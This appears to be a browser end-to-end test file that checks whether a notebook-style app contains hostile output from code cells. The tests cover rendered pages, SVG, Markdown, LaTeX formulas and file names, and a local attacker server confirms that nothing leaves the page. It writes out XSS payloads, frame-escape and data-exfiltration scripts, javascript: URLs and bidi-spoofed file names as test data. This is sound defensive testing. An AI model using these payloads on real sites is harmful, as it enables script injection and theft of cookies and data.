// Hostile text, pages, drawings, formulas and names: nothing runs, nothing leaves, everything is seen. A
// script that got past everything else is in a cage of two walls, each of which holds alone.
// Each attack also runs where nothing stands against it, to show that it would be noticed.

import { createServer } from "node:http";
import { act, begin, check, enter, equal, PATIENCE, say, state, story } from "./scene.mjs";

/** Script that tries every way out, and notes on its own page what it reached. */
const attacks = (target) => `
const noted = {};
const tried = async (name, way) => { try { noted[name] = String(await way()); } catch (problem) { noted[name] = "refused"; } };
(async () => {
  await tried("parent", () => parent.document.body.textContent.length);
  await tried("top", () => { top.location.href = "${target}/top"; return "no error"; });
  await tried("element", () => window.frameElement === null ? Promise.reject() : "seen");
  await tried("cookie", () => document.cookie === undefined ? Promise.reject() : "read");
  await tried("storage", () => localStorage.length);
  await tried("fetch", () => fetch("${target}/fetch", { mode: "no-cors" }).then(() => "sent"));
  await tried("own", () => fetch("/v1/do", { method: "POST", body: "{}" }).then((reply) => reply.status));
  await tried("beacon", () => navigator.sendBeacon("${target}/beacon") && "queued");
  await tried("popup", () => open("${target}/popup") ?? Promise.reject());
  await tried("socket", () => new Promise((good, bad) => { const one = new WebSocket("${target.replace("http", "ws")}/socket"); one.onopen = () => good("open"); one.onerror = bad; }));
  await tried("worker", () => new Promise((good, bad) => { const one = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); one.onmessage = () => good("runs"); one.onerror = bad; }));
  document.body.dataset.noted = JSON.stringify(noted);
})();`;

const page = (target, script) => `<html><head>
<meta http-equiv="refresh" content="1; url=${target}/refresh"><link rel="stylesheet" href="${target}/style"><link rel="prefetch" href="${target}/prefetch">
<link rel="dns-prefetch" href="//dns.attack.invalid"><link rel="preconnect" href="${target}"><base href="${target}/">
<style>@import "${target}/import"; @font-face { font-family: x; src: url(${target}/font) } body { font-family: x; background: url(${target}/background) }</style></head>
<body onload="document.body.dataset.loaded = 1"><p id="here">A page of the code</p><img src="${target}/img" onerror="document.body.dataset.ran = 1">
<img src=x srcset="${target}/srcset 1x"><iframe src="${target}/frame"></iframe><object data="${target}/object"></object><embed src="${target}/embed">
<video poster="${target}/poster" src="${target}/video"></video><form id="f" action="${target}/form"><input name="a"></form>
<svg><image href="${target}/svg-image"/><script>document.body.dataset.svg = 1</script></svg>
<a id="ping" href="${target}/link" ping="${target}/ping" download>x</a>
<script>document.body.dataset.script = 1; try { document.getElementById("f").submit(); } catch {} ${script}</script></body></html>`;

const drawing = (target) => `<svg xmlns="http://www.w3.org/2000/svg" width="120" height="60" onload="fetch('${target}/svg-load')"><rect width="120" height="60" fill="#c03020"/><image href="${target}/svg-href" width="1" height="1"/><script>fetch("${target}/svg-script")</script><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="${target}/svg-foreign"/></foreignObject></svg>`;

const text = (target) => [
  `<script>fetch("${target}/md-script")</script>`,
  `<img src="${target}/md-img" onerror="alert(1)"> and ![a picture](${target}/md-picture)`,
  `[click me](${target}/md-link) [bad](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)`,
  `<iframe src="${target}/md-frame"></iframe><svg onload=alert(1)>`,
  "Reversed: \u202efdp.exe\u202c, hidden: a\u200bb, escape: \u001b[31mred\u001b]0;t\u0007, mark: ❚ Run it?",
  `<a href="${target}/auto">auto</a> <${target}/angle> ${target}/bare`,
  `[ref][r]\n\n[r]: ${target}/ref "title"`,
  `${"> ".repeat(300)}deep`,
].join("\n\n");

const python = (target) => `
class Page:
    def _repr_html_(self): return ${JSON.stringify(page(target, attacks(target)))}
class Drawing:
    def _repr_svg_(self): return ${JSON.stringify(drawing(target))}
display(Page()); display(Drawing())
open("<img src=x onerror=alert(1)>.txt", "w").write("<b>bold</b>\\n")
open("evil\\u202egpj.exe", "w").write("x\\u202ey\\x1b[31m\\n")
open("line\\nbreak", "w").write("x\\n")
print("\\x1b]8;;${target}/osc\\x07link\\x1b]8;;\\x07 \\x1b[2J \\u202eabc <script>alert(1)</script>")`;

/** Formulas that want to be more, each as it must be seen. */
const formulas = (target) => [
  "\\frac{1}{", "\\begin{matrix}1 & 2", "\\left( x", "$$x", "\\text{open",
  "\\def\\a{\\a\\a}\\a", "\\newcommand{\\b}[1]{#1#1}\\b{\\b{\\b{\\b{x}}}}",
  "\\href{javascript:alert(1)}{x}", `\\href{${target}/tex-href}{x}`, `\\url{${target}/tex-url}`, `\\includegraphics{${target}/tex-graphics}`,
  "\\htmlId{app}{x}", "\\htmlClass{card open}{x}", "\\htmlData{act=run}{x}", `\\htmlStyle{background: url(${target}/tex-style)}{x}`,
  `\\unknown{<img src="${target}/tex-unknown" onerror="alert(1)">}`, `\\text{<img src="${target}/tex-text" onerror="alert(1)">}`, `\\mathrm{<script>fetch("${target}/tex-script")</script>}`,
  "\\begin{<b onclick=alert(1)>}x\\end{<b onclick=alert(1)>}",
];

/** Ways out of a frame. Each comes to the target at its own name. */
const WAYS = {
  fetch: (target) => `fetch("${target}/fetch", { mode: "no-cors" })`,
  beacon: (target) => `navigator.sendBeacon("${target}/beacon")`,
  socket: (target) => `new WebSocket("${target.replace("http", "ws")}/socket")`,
  worker: (target) => `new Worker(URL.createObjectURL(new Blob(['fetch("${target}/worker", { mode: "no-cors" })'])))`,
  picture: (target) => `new Image().src = "${target}/picture"`,
  popup: (target) => `open("${target}/popup")`,
  download: (target) => `Object.assign(document.createElement("a"), { href: "${target}/download", download: "x" }).click()`,
  form: (target) => `const form = document.body.appendChild(Object.assign(document.createElement("form"), { action: "${target}/form" })); form.submit()`,
  own: (target) => `location.href = "${target}/own"`,
  top: (target) => `top.location.href = "${target}/top"`,
};

const escape = (way, target) => `<!doctype html><body><p>A script</p><script>document.body.dataset.script = 1; ${WAYS[way](target)}</script></body>`;

/** A server that counts who comes, and waits for somebody. */
async function attacker() {
  const [seen, waiting] = [[], new Set()];
  const server = createServer((request, reply) => {
    seen.push(request.url);
    for (const look of waiting) look();
    reply.setHeader("access-control-allow-origin", "*");
    const [, part, way] = request.url.match(/^\/(outer|inner)\?(\w+)$/) ?? [];
    if (part !== undefined) {
      reply.setHeader("content-type", "text/html");
      return reply.end(part === "inner" ? escape(way, `http://127.0.0.1:${server.address().port}`) : `<!doctype html><iframe src="/inner?${way}"></iframe>`);
    }
    if (request.url === "/control") {
      reply.setHeader("content-type", "text/html");
      reply.end(page(`http://127.0.0.1:${server.address().port}`, attacks(`http://127.0.0.1:${server.address().port}`).replace("top.location.href", "window.unused")).replace("document.getElementById(\"f\").submit()", "0").replace("http-equiv=\"refresh\"", "name=\"x\""));
    } else reply.end();
  });
  let connections = 0;
  server.on("connection", () => connections += 1);
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  const comes = (path) => new Promise((done, failed) => {
    const timer = setTimeout(() => failed(new Error(`${path} was never asked for`)), PATIENCE);
    const look = () => {
      if (!seen.some((url) => url.split("?")[0] === path)) return;
      clearTimeout(timer);
      waiting.delete(look);
      done();
    };
    waiting.add(look);
    look();
  });
  return { seen, connections: () => connections, comes, target: `http://127.0.0.1:${server.address().port}`, close: () => server.close() };
}

await story("hostile", async (browser, scene) => {
  const { seen, connections, target, close } = await attacker();
  try {
    // The control: an ordinary page is attacked by all of it.
    const control = await (await browser.person()).newPage();
    await control.goto(`${target}/control`);
    await control.waitForFunction(() => document.body.dataset.noted !== undefined);
    const reached = JSON.parse(await control.evaluate(() => document.body.dataset.noted));
    for (const way of ["parent", "cookie", "storage", "fetch", "beacon"]) check(reached[way] !== "refused", `the control of ${way} failed`);
    for (const way of ["/img", "/style", "/import", "/fetch", "/frame", "/srcset"]) check(seen.includes(way), `the control did not send ${way}`);
    await control.close();
    seen.length = 0;
    const before = connections();
    check(before > 0, "the control made no connection");
    browser.requests.length = 0;
    browser.complaints.length = 0;

    const place = await scene([{ text: text(target), call: { language: "python", code: python(target) } }, { text: "Done." }]);
    const server = await place.serve();
    const person = await browser.person();
    const tab = await enter(person, server.url);
    let dialogs = 0;
    tab.on("dialog", (dialog) => {
      dialogs += 1;
      void dialog.dismiss();
    });
    await begin(tab);
    await say(tab, `<b>me</b> \u202e${target}/prompt`);
    await tab.waitForSelector(".card.open [data-act=run]");
    await act(tab, "run", ".card.open");
    await tab.waitForFunction(() => document.querySelector(".head .state-idle, [data-act=later]") !== null);
    if (await tab.isVisible("[data-act=later]")) await act(tab, "later", ".card.open");
    await state(tab, "idle");

    // Text: as it is, or spelled out; no element of its making.
    const reply = await tab.textContent(".reply .prose");
    for (const words of ["<script>fetch(", "<iframe src=", "\\u{202e}", "\\u{200b}", "\\u{1b}", "\\u{275a} Run it?"]) check(reply.includes(words), `the reply does not show ${words}`);
    equal(await tab.evaluate(() => document.querySelectorAll(".prose script, .prose img, .prose iframe, .prose svg, .prose [onerror], .prose a[href]").length), 0, "elements in the reply");
    const bidi = await tab.evaluate(() => /[\u202a-\u202e\u2066-\u2069\u200b\u001b]/.test(document.body.innerText));
    check(!bidi, "something invisible is on the page");

    // A link asks first, with its address.
    await tab.click(".prose .link-words >> text=click me");
    const link = tab.locator(".link-ask a");
    await link.waitFor();
    equal([await link.getAttribute("href"), await link.getAttribute("rel"), await link.getAttribute("target")], [`${target}/md-link`, "noreferrer noopener", "_blank"], "the link");
    check((await tab.textContent(".link-ask")).includes(`${target}/md-link`), "the link does not show its address");

    // A page comes in a frame, without scripts; a drawing is a picture.
    const frames = tab.locator(".frame iframe");
    equal(await frames.count(), 1, "frames");
    const framed = async (at) => {
      await frames.nth(at).scrollIntoViewIfNeeded();
      const handle = await frames.nth(at).elementHandle();
      const frame = await handle.contentFrame();
      await frame.waitForLoadState("load");
      return frame;
    };
    equal(await frames.nth(0).getAttribute("sandbox"), "", "the frame's sandbox");
    const still = await framed(0);
    check((await still.textContent("body")).includes("A page of the code"), "the frame is empty");
    equal(await still.evaluate(() => [document.body.dataset.script, document.body.dataset.ran, document.body.dataset.svg].filter(Boolean)), [], "a script ran");
    equal(await still.evaluate(() => document.querySelectorAll("script, link, meta, base, iframe, object, embed, form").length), 0, "elements in the frame");
    const drawn = tab.locator("img.picture");
    await drawn.scrollIntoViewIfNeeded();
    await tab.waitForFunction(() => [...document.querySelectorAll("img.picture")].some((one) => one.complete && one.naturalWidth === 120));
    equal(new URL(tab.url()).origin, server.origin, "the frame led the page away");

    // Names of files, in the changes and in their lines.
    await tab.click(".head [data-act=changes]");
    await tab.waitForSelector(".file");
    const names = await tab.locator(".file-head label").allTextContents();
    check(names.some((name) => name.includes("<img src=x onerror=alert(1)>.txt")), `names: ${names}`);
    check(names.some((name) => name.includes("evil\\u{202e}gpj.exe")), `names: ${names}`);
    check(names.every((name) => !/[\u0000-\u001f\u202e]/.test(name)), `names: ${names}`);
    check((await tab.textContent(".changes-body")).includes("<b>bold</b>"), "lines");

    // No string becomes HTML, wherever it comes from.
    equal(await tab.evaluate(() => {
      const tried = [() => document.body.innerHTML = "<b>x</b>", () => document.write("x"), () => new DOMParser().parseFromString("<b>", "text/html"), () => document.createElement("script").text = "1", () => trustedTypes.createPolicy("default", {}), () => document.createElement("iframe").srcdoc = "x"];
      return tried.map((way) => {
        try {
          way();
          return "done";
        } catch {
          return "refused";
        }
      });
    }), Array(6).fill("refused"), "Trusted Types");

    // Opened as a page of its own, a result can do no more.
    const source = await tab.evaluate(() => document.querySelector(".frame iframe").src);
    const alone = await person.newPage();
    const direct = await alone.goto(source).catch(() => null);
    check(direct?.ok() === true, `a result of its own was not shown: ${direct?.status()}`);
    check((await alone.textContent("body")).includes("A page of the code"), "a result of its own is empty");
    equal(await alone.evaluate(() => document.body.dataset.script ?? "none"), "none", "a script ran in a result of its own");
    await alone.close();

    equal(dialogs, 0, "dialogs");
    equal(seen, [], "requests that left");
    equal(connections(), before, "connections that were made, by a hint to the browser for example");
    const foreign = browser.requests.filter((url) => !url.startsWith(server.origin) && !url.startsWith("data:") && !url.startsWith("blob:") && !url.startsWith("about:"));
    const allowed = foreign.filter((url) => !url.startsWith(target));
    equal(allowed, [], "requests to somebody else");
  } finally {
    close();
  }
});

await story("formulas", async (browser, scene) => {
  const { seen, connections, target, close } = await attacker();
  try {
    const all = formulas(target);
    const code = `class Formula:
    def __init__(self, text): self.text = text
    def _repr_latex_(self): return self.text
for text in ${JSON.stringify(all)}: display(Formula(text))
display(Formula("{" * 10_000)); display(Formula("x" + "^{x" * 10_000)); display(Formula("\\\\sqrt" * 10_000)); display(Formula("$$x^2$$"))`;
    const place = await scene([]);
    const server = await place.serve();
    const page = await enter(await browser.person(), server.url);
    const dialogs = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const { session } = await server.perform("open", { mode: "run" });
    await page.goto(`${server.origin}/#/s/${encodeURIComponent(session)}`);
    await state(page, "idle");
    const complaints = browser.complaints.length;
    await server.perform("run", { session, language: "python", code });
    await page.waitForFunction(() => document.querySelector("[data-cell=p1] .outcome")?.textContent.startsWith("Done") === true);
    await state(page, "idle");

    // The control: what is a formula is set. The rest is text, whole.
    await page.waitForFunction(() => [...document.querySelectorAll("[data-cell=p1] math msup")].some((one) => one.textContent === "x2"));
    const shown = await page.locator("[data-cell=p1] .rich").allTextContents();
    equal(shown.length, all.length + 4, "formulas");
    const bare = (words) => words.replace(/\s+/g, "");
    for (const [at, source] of all.entries()) {
      // Of \text and \mathrm only the words are left.
      const words = source.replace(/^\\(?:text|mathrm)\{(<.*>)\}$/, "$1").replace(/^\$\$/, "");
      check(bare(shown[at]).includes(bare(words)), `${source} is seen as ${shown[at]}`);
    }
    equal(await page.evaluate(() => {
      const output = [...document.querySelectorAll("[data-cell=p1] .rich")];
      const wrong = "script, img, iframe, object, a[href], form, b, #app, [onerror], [onclick], [style*=url], [data-act=run], .card.open";
      return output.flatMap((one) => [...one.querySelectorAll(wrong)].map((found) => found.outerHTML.slice(0, 200)));
    }), [], "elements of a formula");
    const names = await page.evaluate(() => [...new Set([...document.querySelectorAll("[data-cell=p1] math, [data-cell=p1] math *")].flatMap((one) => [one.localName, ...one.getAttributeNames().map((name) => `@${name}`)]))].sort());
    equal(names.filter((name) => !/^(?:m(?:ath|row|i|n|o|text|space|frac|sqrt|root|su[bp]|subsup|over|under|underover|table|t[rd])|@(?:display|mathvariant|stretchy|fence|largeop|movablelimits|width|accent|linethickness|columnalign))$/.test(name)), [], `other names than those of MathML: ${names}`);
    equal(dialogs, [], "dialogs of a formula");
    equal([seen, connections()], [[], 0], "requests of a formula");
    equal(browser.complaints.slice(complaints), [], "complaints of the page");
  } finally {
    close();
  }
});

await story("cage", async (browser, scene) => {
  const { seen, connections, comes, target, close } = await attacker();
  try {
    // The control: in a plain frame every way leads out.
    const stranger = await browser.person();
    for (const way of Object.keys(WAYS)) {
      const control = await stranger.newPage();
      await control.goto(`${target}/outer?${way}`);
      await comes(`/${way}`);
      await control.close();
    }
    await stranger.close();

    // A result as the server gives it: its headers, and the frame that the page makes.
    const place = await scene([]);
    const server = await place.serve();
    // The browser's own wall around this computer is open: it is not the one that is tried.
    const person = await browser.person({ permissions: ["local-network-access"] });
    const tab = await enter(person, server.url);
    const { session } = await server.perform("open", { mode: "run" });
    await server.perform("run", { session, language: "python", code: "class Page:\n    def _repr_html_(self): return '<p>A page of the code</p>'\nPage()" });
    await tab.goto(`${server.origin}/#/s/${encodeURIComponent(session)}`);
    await tab.waitForSelector(".frame iframe");
    const [source, sandbox] = await tab.evaluate(() => {
      const frame = document.querySelector(".frame iframe");
      return [frame.src, frame.getAttribute("sandbox")];
    });
    const alone = await person.newPage();
    const given = await (await alone.goto(source)).allHeaders();
    await alone.close();
    check(given["content-security-policy"].includes("sandbox") && sandbox === "", `${given["content-security-policy"]} and ${sandbox}`);

    // The same with a script in it, as if nothing had been taken out.
    const tried = async (walls, ways) => {
      const isKept = (name) => !/^(?:content-length|date)$/.test(name) && (walls.includes("policy") || name !== "content-security-policy");
      const headers = Object.fromEntries(Object.entries(given).filter(([name]) => isKept(name)));
      await person.route(/\/o\//, (route) => route.fulfill({ status: 200, headers, body: escape(new URL(route.request().url()).searchParams.get("way"), target) }));
      const left = [];
      person.on("page", () => left.push("a page"));
      tab.on("download", () => left.push("a download"));
      seen.length = 0;
      const before = connections();
      const ran = [];
      for (const way of ways) {
        const frame = await tab.evaluateHandle(([source, isCaged]) => new Promise((done) => {
          const frame = document.createElement("iframe");
          if (isCaged) frame.setAttribute("sandbox", "");
          frame.onload = () => done(frame);
          frame.src = source;
          document.body.append(frame);
        }), [`${source}&way=${way}`, walls.includes("sandbox")]);
        const inner = await frame.contentFrame();
        equal(await inner.evaluate(() => document.body.textContent.startsWith("A script")), true, "the page in the frame");
        if (await inner.evaluate(() => document.body.dataset.script === "1")) ran.push(way);
        // Where there is no wall it leaves: the frame stays until it has.
        if (walls.length === 0) await comes(`/${way}`);
      }
      await tab.evaluate(() => document.querySelectorAll("body > iframe").forEach((frame) => frame.remove()));
      await person.unroute(/\/o\//);
      return { ran, seen: [...seen], connections: connections() - before, left, origin: new URL(tab.url()).origin };
    };
    const nothing = { ran: [], seen: [], connections: 0, left: [], origin: server.origin };
    equal(await tried(["policy", "sandbox"], Object.keys(WAYS)), nothing, "ways out of a cage of two walls");
    equal(await tried(["sandbox"], Object.keys(WAYS)), nothing, "ways out of the frame's sandbox alone");
    equal(await tried(["policy"], Object.keys(WAYS)), nothing, "ways out of the server's policy alone");
    // The control: in the same frame without a wall.
    const free = ["fetch", "socket", "worker", "popup"];
    equal((await tried([], free)).ran, free, "scripts in a frame without a wall");
  } finally {
    close();
  }
});
